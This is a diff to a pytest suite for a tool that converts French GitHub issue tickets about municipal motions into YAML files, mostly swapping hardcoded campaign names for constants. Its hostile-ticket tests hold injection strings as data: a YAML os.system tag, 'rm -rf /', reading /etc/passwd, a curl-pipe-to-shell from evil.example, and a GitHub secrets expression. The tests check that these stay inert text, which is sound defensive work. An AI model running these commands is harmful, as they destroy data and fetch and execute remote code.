@@ -5,6 +5,7 @@ hostile ones; each gives a correct motion file or a French error, never an injec
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
@@ -15,7 +16,7 @@ from click.testing import Result
 from hypothesis import given
 from hypothesis import strategies as st
 
-from conftest import ROOT, RepoBuilder
+from conftest import CAMPAIGN, CAMPAIGN_2022, ROOT, RepoBuilder
 from petition.core.schemas import schema
 from petition.core.yamlstrict import load_bytes
 from petition.exchange.writer import dump_motion
@@ -33,17 +34,17 @@ from petition.intake.issueform import (
 )
 
 DATA = Path(__file__).parent / "data" / "issues"
-LIEVIN = "motions/canssm-2023/commune-62510-lievin-2023-10-12.yml"
-EXPECTED = """\
+LIEVIN = f"motions/{CAMPAIGN}/commune-62510-lievin-2023-10-12.yml"
+EXPECTED = f"""\
 # yaml-language-server: $schema=../../schema/motion.schema.json
-campagne: canssm-2023
+campagne: {CAMPAIGN}
 collectivite:
   type: commune
   code: "62510"
   nom: Liévin
 instance: Conseil municipal
 nature: motion
-objet: Motion des syndicats de mineurs pour l'offre de santé CAN-Filieris
+objet: Motion du collectif pour les bibliothèques de proximité
 seance:
   date: "2023-10-12"
 presences:
@@ -59,10 +60,10 @@ vote:
 texte: |-
   Le Conseil municipal demande solennellement que le gouvernement :
 
-  - consolide le réseau CAN-Filieris ;
-  - engage la coopération avec la CNAM.
+  - consolide le réseau des bibliothèques ;
+  - engage la mise en réseau des médiathèques.
 sources:
-- url: https://www.example.fr/deliberations/2023-10-12-motion-filieris.pdf
+- url: https://www.example.fr/deliberations/2023-10-12-motion-bibliotheques.pdf
 notes: 'Motion signalée par le formulaire du ticket #12.'
 """
 # Unanimity with one abstention: counts only a document gives (all 32 votants for would be refused
@@ -89,24 +90,24 @@ def assert_no_injected_key(data: dict[str, Any]) -> None:
     assert set(data) <= set(schema("motion")["properties"])
     assert set(data["collectivite"]) == {"type", "code", "nom"}
     assert data["vote"] == VOTE
-    assert data["campagne"] == "canssm-2023"
+    assert data["campagne"] == CAMPAIGN
     assert "votes_pour" not in data
 
 
 # --- a correct ticket ----------------------------------------------------------------------------
-def test_valid_issue_gives_exact_file(seeded_repo: RepoBuilder) -> None:
-    result = from_issue(seeded_repo, "valide")
+def test_valid_issue_gives_exact_file(sample_repo: RepoBuilder) -> None:
+    result = from_issue(sample_repo, "valide")
     assert (result.exit_code, result.stdout, result.stderr) == (0, EXPECTED, "")
-    assert not (seeded_repo.root / LIEVIN).exists()  # without --write, nothing is written
+    assert not (sample_repo.root / LIEVIN).exists()  # without --write, nothing is written
 
 
-def test_write_then_never_overwrite(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+def test_write_then_never_overwrite(sample_repo: RepoBuilder, tmp_path: Path) -> None:
     body = tmp_path / "pr.md"
-    result = from_issue(seeded_repo, "valide", "--write", "--pr-body-file", str(body))
+    result = from_issue(sample_repo, "valide", "--write", "--pr-body-file", str(body))
     assert (result.exit_code, result.stdout) == (0, LIEVIN + "\n")
-    assert (seeded_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
-    assert seeded_repo.run("validate").exit_code == 0
-    assert body.read_text("utf-8") == """\
+    assert (sample_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
+    assert sample_repo.run("validate").exit_code == 0
+    assert body.read_text("utf-8") == f"""\
 Motion signalée dans le ticket #12, transformée en fichier par `petition from-issue`.
 
 **Vérifiée avant l'ouverture de cette demande** : le fichier a passé toutes les règles de \
@@ -118,45 +119,45 @@ ci-dessous.
 ### ✅ Liévin (commune 62510)
 
 - Séance : 12 octobre 2023
-- Campagne : canssm-2023
+- Campagne : {CAMPAIGN}
 - Nature : Motion
 - Vote : adoptée à l'unanimité (31 pour, 0 contre, 1 abstention(s))
-- Fichier : motions/canssm-2023/commune-62510-lievin-2023-10-12.yml
+- Fichier : motions/{CAMPAIGN}/commune-62510-lievin-2023-10-12.yml
 - Problèmes : aucun
 
 Closes #12
 """
     comment = tmp_path / "comment.md"
-    again = from_issue(seeded_repo, "valide", "--write", "--comment-file", str(comment))
+    again = from_issue(sample_repo, "valide", "--write", "--comment-file", str(comment))
     assert again.exit_code == 1
     assert again.stderr == (f"ticket #12:1: Ticket : le fichier « {LIEVIN} » existe déjà : cette "
                             "motion est sans doute déjà dans le dépôt\n")
-    assert (seeded_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
+    assert (sample_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
     assert "existe déjà" in comment.read_text("utf-8")
 
 
-def test_name_spelling_and_code_spaces_are_normalised(seeded_repo: RepoBuilder) -> None:
-    result = from_issue(seeded_repo, "nom-casse")  # « LIEVIN », code « 62 510 »
+def test_name_spelling_and_code_spaces_are_normalised(sample_repo: RepoBuilder) -> None:
+    result = from_issue(sample_repo, "nom-casse")  # « LIEVIN », code « 62 510 »
     assert result.exit_code == 0
     data = data_of(result.stdout)
     assert data["collectivite"] == {"type": "commune", "code": "62510", "nom": "Liévin"}
 
 
 # --- tickets with mistakes -----------------------------------------------------------------------
-def test_missing_field(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+def test_missing_field(sample_repo: RepoBuilder, tmp_path: Path) -> None:
     comment = tmp_path / "comment.md"
-    result = from_issue(seeded_repo, "champ-manquant", "--write", "--comment-file", str(comment))
+    result = from_issue(sample_repo, "champ-manquant", "--write", "--comment-file", str(comment))
     assert (result.exit_code, result.stdout) == (1, "")
     assert result.stderr == "ticket #13:21: Date de la séance : champ obligatoire : remplissez-le\n"
     assert comment.read_text("utf-8") == (
         "Merci pour ce signalement ! La motion n'a pas encore pu être ajoutée : le formulaire "
         "contient 1 erreur(s) à corriger.\n\n```text\nDate de la séance : champ obligatoire : "
         "remplissez-le\n```\n\n" + TAIL)
-    assert not any("62510" in p.name for p in (seeded_repo.root / "motions").rglob("*.yml"))
+    assert not any("62510" in p.name for p in (sample_repo.root / "motions").rglob("*.yml"))
 
 
-def test_wrong_motion_lists_every_problem(seeded_repo: RepoBuilder) -> None:
-    result = from_issue(seeded_repo, "mauvaise-motion")
+def test_wrong_motion_lists_every_problem(sample_repo: RepoBuilder) -> None:
+    result = from_issue(sample_repo, "mauvaise-motion")
     assert result.exit_code == 1
     assert result.stderr.splitlines() == [
         "ticket #14:9: Nom de la collectivité : le code « 62510 » est celui de « Liévin », pas de "
@@ -173,13 +174,13 @@ def test_wrong_motion_lists_every_problem(seeded_repo: RepoBuilder) -> None:
     ]
 
 
-def test_unknown_campaign_checked_against_repository(seeded_repo: RepoBuilder) -> None:
-    result = from_issue(seeded_repo, "campagne-inconnue")
+def test_unknown_campaign_checked_against_repository(sample_repo: RepoBuilder) -> None:
+    result = from_issue(sample_repo, "campagne-inconnue")
     assert result.exit_code == 1
     assert result.stderr == (
-        "ticket #21:13: Campagne : campagne « canssm-2019 » inconnue (campagnes : canssm-2022, "
-        "canssm-2023) : corrigez-la ; pour une nouvelle campagne, un coordinateur crée d'abord "
-        "motions/canssm-2019/campagne.yml\n")
+        f"ticket #21:13: Campagne : campagne « autre-2019 » inconnue (campagnes : {CAMPAIGN_2022}, "
+        f"{CAMPAIGN}) : corrigez-la ; pour une nouvelle campagne, un coordinateur crée d'abord "
+        "motions/autre-2019/campagne.yml\n")
 
 
 # --- hostile tickets -----------------------------------------------------------------------------
@@ -191,34 +192,34 @@ def test_unknown_campaign_checked_against_repository(seeded_repo: RepoBuilder) -
     ("rubrique-en-double", "ticket #20:69: Voix pour : rubrique en double (lignes 49 et 69) : "
                            "gardez-en une seule\n"),
 ])
-def test_hostile_ticket_refused(seeded_repo: RepoBuilder, tmp_path: Path, event: str,
+def test_hostile_ticket_refused(sample_repo: RepoBuilder, tmp_path: Path, event: str,
                                 message: str) -> None:
     comment = tmp_path / "comment.md"
-    result = from_issue(seeded_repo, event, "--write", "--comment-file", str(comment))
+    result = from_issue(sample_repo, event, "--write", "--comment-file", str(comment))
     assert (result.exit_code, result.stdout, result.stderr) == (1, "", message)
     assert comment.read_text("utf-8").startswith("Merci pour ce signalement !")
-    assert not (seeded_repo.root / LIEVIN).exists()
+    assert not (sample_repo.root / LIEVIN).exists()
 
 
 @pytest.mark.parametrize(("event", "key", "value"), [
-    ("texte-cle-imbriquee", "texte", "Texte.\nvote:\n  pour: 999\ncampagne: canssm-2022\n---\n"
+    ("texte-cle-imbriquee", "texte", f"Texte.\nvote:\n  pour: 999\ncampagne: {CAMPAIGN_2022}\n---\n"
                                      "!!python/object/apply:os.system ['id']\n&a [*a]"),
     ("shell", "objet", "$(rm -rf /) `cat /etc/passwd` ; echo pwned"),
     ("shell", "texte", "```\n$(curl https://evil.example/x.sh | sh)\n```\n`id`"),
 ])
-def test_hostile_text_stays_text(seeded_repo: RepoBuilder, event: str, key: str,
+def test_hostile_text_stays_text(sample_repo: RepoBuilder, event: str, key: str,
                                  value: str) -> None:
-    result = from_issue(seeded_repo, event, "--write")
+    result = from_issue(sample_repo, event, "--write")
     assert result.exit_code == 0, result.stderr
-    text = (seeded_repo.root / LIEVIN).read_text("utf-8")
+    text = (sample_repo.root / LIEVIN).read_text("utf-8")
     data = data_of(text)
     assert data[key] == value
     assert_no_injected_key(data)
 
 
-def test_expression_is_never_evaluated(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+def test_expression_is_never_evaluated(sample_repo: RepoBuilder, tmp_path: Path) -> None:
     comment = tmp_path / "comment.md"
-    result = from_issue(seeded_repo, "expression", "--comment-file", str(comment))
+    result = from_issue(sample_repo, "expression", "--comment-file", str(comment))
     assert result.exit_code == 1
     assert result.stderr.splitlines()[0] == (
         "ticket #19:5: Code officiel de la collectivité : commune de code "
@@ -227,16 +228,16 @@ def test_expression_is_never_evaluated(seeded_repo: RepoBuilder, tmp_path: Path)
     assert "${{SECRETS.GITHUB_TOKEN}}" in comment.read_text("utf-8")  # shown, as text, in a fence
 
 
-def test_one_megabyte_body(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+def test_one_megabyte_body(sample_repo: RepoBuilder, tmp_path: Path) -> None:
     event = json.loads((DATA / "valide.json").read_text("utf-8"))
     event["issue"]["body"] = event["issue"]["body"].replace(
         "### Publication", "A" * 1_048_576 + "\r\nvotes_pour: 999\r\n\r\n### Publication")
     path = tmp_path / "big.json"
     path.write_text(json.dumps(event), encoding="utf-8")
-    result = from_issue(seeded_repo, path, "--write")
+    result = from_issue(sample_repo, path, "--write")
     assert (result.exit_code, result.stdout) == (1, "")
     assert result.stderr.startswith("ticket #12:1: Ticket : ticket trop long (")
-    assert not (seeded_repo.root / LIEVIN).exists()
+    assert not (sample_repo.root / LIEVIN).exists()
 
 
 @pytest.mark.parametrize(("content", "message"), [
@@ -247,19 +248,19 @@ def test_one_megabyte_body(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
     ('{"issue": {"number": 1' + "0" * 5000 + "}}", "fichier d'événement illisible (JSON invalide"),
     ("[" * 100_000, "fichier d'événement illisible (JSON invalide"),
 ])
-def test_not_an_issue_event_is_usage_error(seeded_repo: RepoBuilder, tmp_path: Path, content: str,
+def test_not_an_issue_event_is_usage_error(sample_repo: RepoBuilder, tmp_path: Path, content: str,
                                            message: str) -> None:
     path = tmp_path / "event.json"
     path.write_text(content, encoding="utf-8")
-    result = from_issue(seeded_repo, path)
+    result = from_issue(sample_repo, path)
     assert result.exit_code == 2
     assert result.stderr.startswith(f"Erreur : {path} : {message}")
 
 
-def test_ticket_not_from_the_form(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+def test_ticket_not_from_the_form(sample_repo: RepoBuilder, tmp_path: Path) -> None:
     path = tmp_path / "event.json"
     path.write_text('{"issue": {"number": 3, "body": null}}', encoding="utf-8")
-    result = from_issue(seeded_repo, path)
+    result = from_issue(sample_repo, path)
     assert (result.exit_code, result.stderr) == (1, (
         "ticket #3:1: Ticket : ce ticket ne suit pas le formulaire « Signaler une motion adoptée » "
         "(aucune rubrique reconnue) : ouvrez un nouveau ticket avec ce formulaire\n"))
@@ -267,8 +268,8 @@ def test_ticket_not_from_the_form(seeded_repo: RepoBuilder, tmp_path: Path) -> N
 
 # --- the parser on its own -----------------------------------------------------------------------
 def body_of(**values: str) -> str:
-    defaults = {"type": "Commune", "code": "62510", "nom": "Liévin", "campagne": "canssm-2023",
-                "date": "2023-10-12", "nature": "Motion", "objet": "Motion pour Filieris",
+    defaults = {"type": "Commune", "code": "62510", "nom": "Liévin", "campagne": CAMPAIGN,
+                "date": "2023-10-12", "nature": "Motion", "objet": "Motion pour la bibliothèque",
                 "resultat": "Adoptée", "publication": f"- [X] {CONSENT} sur le site."}
     defaults.update(values)
     return "\n\n".join(f"### {f.label}\n\n{defaults.get(f.key) or '_No response_'}"
@@ -334,20 +335,27 @@ def test_form_matches_parser() -> None:
     assert IMPORT_LABEL not in form.get("labels", [])  # only a maintainer may trigger the import
 
 
-def test_form_campaigns_exist() -> None:
+def test_form_campaigns_are_campaign_ids() -> None:
+    """The form's campaigns are the repository's own data (which of them exist is not checked here:
+    the suite runs in a repository of any cause); each is a campaign identifier, offered once and
+    described."""
     form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE/signaler-motion.yml").read_text("utf-8"))
     campaign = next(e for e in form["body"] if e.get("id") == "campagne")
-    for option in campaign["attributes"]["options"]:
-        assert (ROOT / "motions" / option / "campagne.yml").is_file(), option
+    options = campaign["attributes"].get("options", [])
+    pattern = re.compile(schema("campaign")["properties"]["id"]["pattern"])
+    assert len(set(options)) == len(options)
+    for option in options:
+        assert pattern.fullmatch(option), option
+        assert f"{option} : " in campaign["attributes"]["description"], option
 
 
 # --- links that open the form already filled in -------------------------------------------------
 def test_form_url_prefills_fields_by_id() -> None:
-    url = form_url("https://github.com/canssm-filieris/motions/", type="epci", code="246200364",
-                   nom="CA de Lens - Liévin", campagne="canssm-2023", title="Motion : Lens & co")
-    assert url == ("https://github.com/canssm-filieris/motions/issues/new?template=signaler-motion.yml"
+    url = form_url("https://github.com/collectif-exemple/motions/", type="epci", code="246200364",
+                   nom="CA de Lens - Liévin", campagne=CAMPAIGN, title="Motion : Lens & co")
+    assert url == ("https://github.com/collectif-exemple/motions/issues/new?template=signaler-motion.yml"
                    "&type=Intercommunalit%C3%A9%20%28EPCI%29&code=246200364&nom=CA%20de%20Lens%20-"
-                   "%20Li%C3%A9vin&campagne=canssm-2023&title=Motion%20%3A%20Lens%20%26%20co")
+                   f"%20Li%C3%A9vin&campagne={CAMPAIGN}&title=Motion%20%3A%20Lens%20%26%20co")
     form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE" / FORM_FILE).read_text("utf-8"))
     ids = {item["id"] for item in form["body"] if "id" in item}
     query = parse_qs(urlsplit(url).query)
@@ -386,7 +394,7 @@ def body_line(path: Path, fragment: str) -> int:
     ([("12/10/2023", "30/02/2023")], "### Date de la séance",
      "Date de la séance : « 2023-02-30 » : le 30 février 2023 n'existe pas (février 2023 n'a que 28 "
      "jours) ; vérifiez la date sur le document"),
-    ([("https://www.example.fr/deliberations/2023-10-12-motion-filieris.pdf",
+    ([("https://www.example.fr/deliberations/2023-10-12-motion-bibliotheques.pdf",
        "www.example.fr/motion.pdf")], "### Lien vers le document",
      "Lien vers le document : « www.example.fr/motion.pdf » n'a pas la forme attendue. Adresse "
      "http(s) du document original."),
@@ -403,12 +411,12 @@ def body_line(path: Path, fragment: str) -> int:
      "abstentions sont possibles) ; si le document ne donne pas le détail des voix, laissez « Voix "
      "pour », « Voix contre » et « Abstentions » vides"),
 ])
-def test_comments_speak_the_forms_words(seeded_repo: RepoBuilder, tmp_path: Path,
+def test_comments_speak_the_forms_words(sample_repo: RepoBuilder, tmp_path: Path,
                                         edits: list[tuple[str, str]], heading: str,
                                         message: str) -> None:
     event = edited_event(tmp_path, *edits)
     comment = tmp_path / "comment.md"
-    result = from_issue(seeded_repo, event, "--comment-file", str(comment))
+    result = from_issue(sample_repo, event, "--comment-file", str(comment))
     assert result.exit_code == 1
     assert result.stderr == f"ticket #12:{body_line(event, heading)}: {message}\n"
     text = comment.read_text("utf-8")
@@ -424,16 +432,16 @@ def test_comments_speak_the_forms_words(seeded_repo: RepoBuilder, tmp_path: Path
      "CA de Lens - Liévin", "epci-246200364-ca-de-lens-lievin-2023-10-12.yml"),
 ])
 def test_usual_long_names_are_accepted_when_the_code_is_given(
-        seeded_repo: RepoBuilder, tmp_path: Path, typed: str, body_type: str, code: str,
+        sample_repo: RepoBuilder, tmp_path: Path, typed: str, body_type: str, code: str,
         official: str, name: str) -> None:
     event = edited_event(tmp_path, ("\nLiévin\n", f"\n{typed}\n"), ("\n62510\n", f"\n{code}\n"),
                          ("\nCommune\n", f"\n{body_type}\n"),
                          ("\nConseil municipal\n", "\nConseil\n"))
     body = tmp_path / "pr.md"
-    result = from_issue(seeded_repo, event, "--write", "--pr-body-file", str(body))
+    result = from_issue(sample_repo, event, "--write", "--pr-body-file", str(body))
     assert result.exit_code == 0, result.output
-    assert result.stdout == f"motions/canssm-2023/{name}\n"
-    assert data_of((seeded_repo.root / "motions/canssm-2023" / name).read_text())["collectivite"] \
+    assert result.stdout == f"motions/{CAMPAIGN}/{name}\n"
+    assert data_of((sample_repo.root / f"motions/{CAMPAIGN}" / name).read_text())["collectivite"] \
         == {"type": body_type.split()[0].lower().replace("intercommunalité", "epci"), "code": code,
             "nom": official}
     assert result.stderr == (f"ticket #12:1: Nom de la collectivité : avertissement : « {typed} » "
